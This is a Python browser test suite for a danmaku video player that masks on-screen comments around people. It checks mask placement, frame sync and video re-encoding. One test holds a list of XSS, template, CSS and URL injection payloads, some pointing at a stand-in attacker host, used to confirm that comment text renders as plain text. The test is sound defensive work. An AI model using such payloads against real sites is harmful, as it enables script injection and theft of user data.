"""The web player in a real Chromium: danmaku cut out of the person, mask in sync with the displayed frame,
hostile comment text shown as text. Served by the same PlayerServer `danmask play` runs."""
from __future__ import annotations

from fractions import Fraction
from pathlib import Path

import av
import cv2
import numpy as np
import pytest

from danmask.danmaku.browser import open_player
from danmask.danmaku.comments import Comment, load_comments
from danmask.danmaku.font import find_font
from danmask.danmaku.layout import LayoutConfig
from danmask.danmaku.player import PlayerContent, PlayerServer, prepare_content
from danmask.synthetic import make_video
from danmask.track import MaskTrack

pytestmark = pytest.mark.browser

BLOCK = "█" * 40  # a solid glyph: where the comment is, the danmaku layer is opaque


def serve(video: Path, shape: tuple[int, int], comments, track: Path | None, config: LayoutConfig) -> PlayerServer:
    return PlayerServer(PlayerContent(video=video, shape=shape, comments=tuple(comments), config=config,
                                      font_file=find_font(), track=track, title=video.name)).start()


def danmaku_alpha(page) -> np.ndarray:
    """The danmaku canvas's alpha channel (H, W) as the page holds it."""
    w, h, data = page.evaluate("""() => {
      const c = document.getElementById('danmaku');
      return [c.width, c.height, Array.from(c.getContext('2d').getImageData(0, 0, c.width, c.height).data)];
    }""")
    return np.array(data, np.uint8).reshape(h, w, 4)[:, :, 3]


def seek(page, t: float) -> None:
    """Seek and wait until the frame at t is presented and drawn (the player draws in its frame callback)."""
    page.evaluate("""(t) => new Promise((resolve) => {
      const v = document.getElementById('video');
      const stats = window.danmaskPlayer.stats;
      const before = stats.frames;
      const check = () => (stats.frames > before && !v.seeking) ? resolve() : setTimeout(check, 20);
      v.currentTime = t;
      check();
    })""", t)


# ---------------------------------------------------------------- (a) comments outside the person, none inside

def test_danmaku_outside_person_and_none_inside(browser, tmp_path):
    w, h = 480, 272
    clip = make_video(tmp_path / "person.mp4", frames=90, shape=(h, w))
    track_path = tmp_path / "person.dmask"
    MaskTrack(mask_size=(h // 2, w // 2), source_size=(h, w), time_base=clip.time_base,
              masks=[np.where(m[::2, ::2], 255, 0).astype(np.uint8) for m in clip.masks], pts=clip.pts).save(track_path)
    comments = [Comment(0.01 * i, ("top", "scroll", "bottom", "reverse")[i % 4], BLOCK, size=25) for i in range(60)]
    config = LayoutConfig(duration_s=20, fixed_duration_s=20, anti_overlap=False)
    with serve(clip.path, (h, w), comments, track_path, config) as server:
        page = open_player(browser, server.url)
        for frame in (15, 47, 80):
            seek(page, clip.times[frame] + 0.001)
            alpha = danmaku_alpha(page)
            person = clip.masks[frame].astype(np.uint8)
            inside = cv2.erode(person, np.ones((5, 5), np.uint8)) > 0  # 2-px edge: 2x upsampled mask blends
            outside = cv2.dilate(person, np.ones((5, 5), np.uint8)) == 0
            assert alpha[inside].max() == 0, f"frame {frame}: danmaku drawn inside the person"
            assert (alpha[outside] > 0).mean() > 0.5, f"frame {frame}: too little danmaku outside the person"
        assert page.is_hidden("#people")  # a version-1 track: no person list
        page.click("#mask")  # mask off: now the comments cover the person too
        alpha = danmaku_alpha(page)
        assert (alpha[clip.masks[80]] > 0).mean() > 0.5
        page.close()


# ---------------------------------------------------------------- (a') whom to protect, per person id

def test_viewer_switches_each_persons_protection(browser, tmp_path):
    w, h = 320, 180
    clip = make_video(tmp_path / "two.mp4", frames=60, shape=(h, w))
    bystander = np.zeros((h, w), bool)
    bystander[40:100, 240:300] = True  # person 2, never salient, away from the walking person 1
    track = MaskTrack(mask_size=(h, w), source_size=(h, w), time_base=clip.time_base)
    for pts, person in zip(clip.pts, clip.masks):
        union = np.where(person, 255, 0).astype(np.uint8)
        track.append(pts, union, [(1, True, union), (2, False, np.where(bystander, 255, 0).astype(np.uint8))])
    track.save(tmp_path / "two.dmask")
    comments = [Comment(0.01 * i, ("top", "scroll", "bottom", "reverse")[i % 4], BLOCK, size=25) for i in range(60)]
    config = LayoutConfig(duration_s=20, fixed_duration_s=20, anti_overlap=False)
    frame = 30
    inside = cv2.erode(clip.masks[frame].astype(np.uint8), np.ones((5, 5), np.uint8)) > 0

    def cut_out(action) -> np.ndarray:
        """Do `action`, wait until the frame is drawn with the mask of the new choice, return the alpha."""
        action()
        page.wait_for_function("""() => { const p = window.danmaskPlayer;
          return p.stats.maskSelection === p.state.selection && p.stats.drawn > 0; }""")
        return danmaku_alpha(page)

    with serve(clip.path, (h, w), comments, tmp_path / "two.dmask", config) as server:
        page = open_player(browser, server.url)
        seek(page, clip.times[frame] + 0.001)
        assert page.is_visible("#people")
        boxes = page.eval_on_selector_all("#person-list input", "bs => bs.map(b => [b.dataset.id, b.checked])")
        assert boxes == [["1", True], ["2", False]]  # ticked: the people who are ever salient
        alpha = danmaku_alpha(page)  # default: the salient people, the stored union
        assert alpha[inside].max() == 0 and (alpha[bystander] > 0).mean() > 0.3
        alpha = cut_out(lambda: page.click('#person-list input[data-id="2"]'))  # protect 2 as well
        assert page.input_value("#protect") == "chosen"
        assert alpha[inside].max() == 0 and alpha[bystander].max() == 0
        alpha = cut_out(lambda: page.click('#person-list input[data-id="1"]'))  # only 2 now
        assert (alpha[inside] > 0).mean() > 0.3 and alpha[bystander].max() == 0
        alpha = cut_out(lambda: page.select_option("#protect", "salient"))
        assert alpha[inside].max() == 0 and (alpha[bystander] > 0).mean() > 0.3
        alpha = cut_out(lambda: page.select_option("#protect", "all"))
        assert alpha[inside].max() == 0 and alpha[bystander].max() == 0
        # "protect this person": a click on the bystander in the paused frame protects them alone
        box = page.eval_on_selector("#video", "v => { const r = v.getBoundingClientRect(); "
                                    "return [r.left, r.top, r.width, r.height]; }")
        alpha = cut_out(lambda: page.mouse.click(box[0] + 270 / w * box[2], box[1] + 70 / h * box[3]))
        assert page.evaluate("document.getElementById('video').paused")
        assert page.input_value("#protect") == "chosen" and "protecting person 2" in page.text_content("#status")
        assert (alpha[inside] > 0).mean() > 0.3 and alpha[bystander].max() == 0
        page.mouse.click(box[0] + 5, box[1] + 5)  # nobody in the top-left corner
        page.wait_for_function("document.getElementById('status').textContent.startsWith('nobody there')")
        page.close()


# ---------------------------------------------------------------- (b) the mask applied is the displayed frame's

BITS = 8
CELL = 24  # bit cells along the top lane: x = 8 + b * CELL, cell size 12 px


def numbered_clip(path: Path, frames: int, shape: tuple[int, int], fps: int, y: int) -> tuple[list[int], Fraction]:
    """A clip whose frame i shows i in binary as white squares on black, at row `y`."""
    h, w = shape
    time_base = Fraction(1, fps)
    with av.open(str(path), "w") as container:
        stream = container.add_stream("libx264", rate=fps)
        stream.width, stream.height, stream.pix_fmt = w, h, "yuv420p"
        stream.time_base = stream.codec_context.time_base = time_base
        stream.options = {"crf": "10", "preset": "ultrafast", "g": str(fps)}
        for i in range(frames):
            img = np.zeros((h, w, 3), np.uint8)
            img[bit_cells(i, shape, y)] = 255
            frame = av.VideoFrame.from_ndarray(img, format="rgb24")
            frame.pts, frame.time_base = i, time_base
            container.mux(stream.encode(frame))
        container.mux(stream.encode())
    return list(range(frames)), time_base


def bit_cells(number: int, shape: tuple[int, int], y: int) -> np.ndarray:
    h, w = shape
    mask = np.zeros((h, w), bool)
    for b in range(BITS):
        if number >> b & 1:
            x = 8 + b * CELL
            mask[y:y + 12, x:x + 12] = True
    return mask


_RECORD_JS = """([y, bits, cell]) => new Promise((resolve) => {
  const video = document.getElementById('video');
  const danmaku = document.getElementById('danmaku');
  const probe = document.createElement('canvas');
  probe.width = danmaku.width; probe.height = danmaku.height;
  const pctx = probe.getContext('2d', { willReadFrequently: true });
  const dctx = danmaku.getContext('2d', { willReadFrequently: true });
  const rows = [];
  const decode = (data, width, pick) => {
    let n = 0;
    for (let b = 0; b < bits; b++) {
      const x = 8 + b * cell + 6, i = ((y + 6) * width + x) * 4;
      if (pick(data, i)) n |= 1 << b;
    }
    return n;
  };
  // registered after the player's callback, so it runs right after the player drew this frame
  const onFrame = (now, meta) => {
    pctx.drawImage(video, 0, 0, probe.width, probe.height);
    const shown = decode(pctx.getImageData(0, 0, probe.width, probe.height).data, probe.width,
                         (d, i) => d[i] > 127);
    const layer = dctx.getImageData(0, 0, danmaku.width, danmaku.height).data;
    const empty = !layer.some((v, i) => i % 4 === 3 && v > 0);
    const cut = decode(layer, danmaku.width, (d, i) => d[i + 3] < 32);  // alpha cut out = mask bit set
    rows.push({ mediaTime: meta.mediaTime, shown, cut, empty });
    if (video.ended || video.paused) resolve(rows); else video.requestVideoFrameCallback(onFrame);
  };
  video.requestVideoFrameCallback(onFrame);
  video.addEventListener('ended', () => setTimeout(() => resolve(rows), 100), { once: true });
  video.play();
})"""


def test_mask_follows_the_displayed_frame(browser, tmp_path):
    w, h, fps, frames = 320, 180, 30, 180
    shape = (h, w)
    video = tmp_path / "numbered.mp4"
    y = 8  # inside the first top lane
    pts, time_base = numbered_clip(video, frames, shape, fps, y)
    track_path = tmp_path / "numbered.dmask"
    MaskTrack(mask_size=(h, w), source_size=(h, w), time_base=time_base,
              masks=[np.where(bit_cells(i, shape, y), 255, 0).astype(np.uint8) for i in pts], pts=pts).save(track_path)
    # a long top comment of solid blocks covers the bit row for the whole clip
    comments = [Comment(0.0, "top", BLOCK, size=25)]
    config = LayoutConfig(fixed_duration_s=frames / fps + 5, font_scale=2.0)
    with serve(video, shape, comments, track_path, config) as server:
        page = open_player(browser, server.url)
        rows = page.evaluate(_RECORD_JS, [y, BITS, CELL])
        checked = [r for r in rows if not r["empty"]]
        assert len({r["shown"] for r in checked}) >= 100, f"only {len(checked)} frames observed"
        # no frame went without its mask: block 0 is decoded before the page is ready, later blocks ahead of time
        assert len(rows) == len(checked)
        # the mask cut out is the one of the frame the browser says it presents (meta.mediaTime) ...
        presented = [round(r["mediaTime"] * fps) for r in checked]
        late = [(r, p) for r, p in zip(checked, presented) if r["cut"] != p]
        assert not late, f"{len(late)} of {len(checked)} frames cut out another frame's mask: {late[:5]}"
        # ... and that is the picture on screen: reading the video's pixels back agrees, except when the decoder
        # already moved on between presenting and our read-back (a race of the probe, seen on loaded machines)
        agree = sum(r["shown"] == r["cut"] for r in checked)
        assert agree >= 0.95 * len(checked), f"pixels and mask agree on only {agree} of {len(checked)} frames"
        assert all(r["shown"] - r["cut"] in (0, 1) for r in checked)
        # seeking, paused: the mask is the new frame's at once
        for frame in (170, 5, 123, 64):
            seek(page, frame / fps + 0.001)
            row = page.evaluate("""() => ({t: window.danmaskPlayer.stats.mediaTime,
                                           m: window.danmaskPlayer.stats.maskTime})""")
            assert round(row["t"] * fps) == frame and round(row["m"] * fps) == frame
        page.close()


# ---------------------------------------------------------------- (c) hostile text stays text

EVIL = "evil.example"  # a foreign origin: nothing may ever be requested from it
HOSTILE = [
    # HTML and script
    '<img src=x onerror="window.__pwned=1">',
    "</script><script>window.__pwned=2</script>",
    '"><svg onload="window.__pwned=3">',
    f'<script src="https://{EVIL}/x.js"></script>',
    f'<iframe src="//{EVIL}/frame"></iframe>',
    "<b>not bold</b> &amp; 弹幕",
    # attribute and template break-outs
    '" onmouseover="window.__pwned=4" x="',
    "' autofocus onfocus='window.__pwned=5",
    "${window.__pwned=6}{{constructor.constructor('window.__pwned=7')()}}",
    # CSS
    f"<style>@import url(http://{EVIL}/a.css);body{{background:url(http://{EVIL}/b.png)}}</style>",
    f'x{{}}</style><link rel="stylesheet" href="//{EVIL}/c.css">',
    f"red;background-image:url('https://{EVIL}/d.png')",
    # URLs
    "javascript:window.__pwned=8",
    f'<a href="javascript:alert(9)">click</a> <a href="https://{EVIL}/">{EVIL}</a>',
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    "data:text/html,<script>alert(10)</script>",
    f"https://{EVIL}/track?cookie=1",
]


def test_hostile_comment_text_is_shown_as_text(browser, tmp_path):
    """Comment text (and the video's name, the page title) trying HTML, script, CSS and URL injection: no dialog,
    no script runs, no request leaves for another origin, no element is made of it, and it reads literally."""
    h, w = 360, 640
    clip = make_video(tmp_path / "c.mp4", frames=30, shape=(h, w))
    xml = tmp_path / "hostile.xml"
    entries = "".join(f'<d p="0.0{i % 10},{(1, 5, 4)[i % 3]},25,16777215">{_xml_escape(text)}</d>'
                      for i, text in enumerate(HOSTILE))
    xml.write_text(f'<?xml version="1.0" encoding="UTF-8"?><i>{entries}</i>', encoding="utf-8")
    loaded = load_comments(xml)
    assert sorted(c.text for c in loaded.comments) == sorted(HOSTILE)  # the reader keeps it literally too
    title = f'<img src="https://{EVIL}/t.png" onerror="alert(11)">.mp4'
    config = LayoutConfig(duration_s=30, fixed_duration_s=30, anti_overlap=False)
    content = PlayerContent(video=clip.path, shape=(h, w), comments=tuple(loaded.comments), config=config,
                            font_file=find_font(), title=title)
    requests: list[str] = []
    with PlayerServer(content).start() as server:
        page = open_player(browser, server.url, requests=requests)
        dialogs = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        seek(page, 0.5)
        page.click("#on-screen-panel summary")
        page.wait_for_function(f"document.querySelectorAll('#on-screen li').length === {len(HOSTILE)}")
        for item in page.query_selector_all("#on-screen li"):  # where injected handlers would fire
            item.hover()
            item.click()
        seek(page, 1.0)
        shown = page.evaluate("Array.from(document.querySelectorAll('#on-screen li'), li => li.textContent)")
        assert sorted(shown) == sorted(HOSTILE)
        assert page.evaluate("document.getElementById('title').textContent") == title
        assert page.evaluate("window.__pwned === undefined")
        assert page.evaluate("document.querySelectorAll('img, svg, iframe, a, b, style, meta[http-equiv], "
                             "#on-screen script').length") == 0
        assert page.evaluate("document.querySelectorAll('script').length") == 1  # the page's own
        assert page.evaluate("document.querySelectorAll('link').length") == 1 and \
            page.evaluate("document.styleSheets.length") == 1
        assert page.evaluate("document.querySelectorAll('#on-screen li *, #title *').length") == 0  # text only
        assert not dialogs
        assert (danmaku_alpha(page) > 0).sum() > 2000  # and the canvas drew them
        page.close()
    origin = server.url.rstrip("/")
    foreign = [url for url in requests if not url.startswith((origin + "/", "data:", "blob:"))]
    assert requests and not foreign, foreign


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


# ---------------------------------------------------------------- the `danmask play` preparation path

@pytest.mark.parametrize("name, shape, codec, why, shown_width", [
    ("odd.mp4", (91, 161), "libx264", "pixel format yuv444p", 160),  # odd sizes force 4:4:4, which Chrome refuses
    ("part2.avi", (90, 160), "mpeg4", "container .avi", 160),
])
def test_prepare_content_reencodes_what_the_browser_cannot_play(browser, tmp_path, name, shape, codec, why,
                                                                shown_width):
    clip = make_video(tmp_path / name, frames=20, shape=shape, codec=codec)
    h, w = shape
    track = MaskTrack(mask_size=(h, w), source_size=(h, w), time_base=clip.time_base,
                      masks=[np.where(m, 255, 0).astype(np.uint8) for m in clip.masks], pts=clip.pts)
    track.save(tmp_path / "clip.dmask")
    lines = []
    workdir = tmp_path / "work"
    workdir.mkdir()
    content = prepare_content(clip.path, workdir, track=tmp_path / "clip.dmask", log=lines.append)
    assert content.video.suffix == ".mp4" and any(why in line for line in lines), lines
    with PlayerServer(content).start() as server:
        page = open_player(browser, server.url)
        seek(page, clip.times[10] + 0.001)
        assert page.evaluate("document.getElementById('video').videoWidth") == shown_width
        assert page.evaluate("window.danmaskPlayer.stats.mediaTime") == pytest.approx(clip.times[10], abs=1e-3)
        page.close()

